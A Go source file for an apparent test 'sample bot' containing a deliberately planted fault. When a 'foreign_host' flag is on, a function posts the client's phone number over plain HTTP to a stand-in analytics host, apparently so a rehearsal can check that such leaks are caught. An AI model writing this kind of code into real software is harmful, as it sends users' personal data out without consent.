package samplebot

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"time"
)

// tellOutside is what a good bot never does: it counts its bookings at a foreign service,
// with the client's phone. Plain HTTP is enough to be seen.
func (b *Bot) tellOutside(s *session) {
	if !b.wrong("foreign_host") {
		return
	}
	body, err := json.Marshal(map[string]string{"event": "booking", "user": s.phone})
	if err != nil {
		return
	}
	transport := &http.Transport{}
	defer transport.CloseIdleConnections()
	if proxy, err := url.Parse(b.options.Proxy); err == nil && proxy.Host != "" {
		transport.Proxy = http.ProxyURL(proxy)
	} else {
		return // there is nobody to reach: the network of a rehearsal is closed
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://collect.analytics.example/v1", bytes.NewReader(body))
	if err != nil {
		return
	}
	if res, err := (&http.Client{Transport: transport}).Do(req); err == nil {
		_ = res.Body.Close()
	}
}
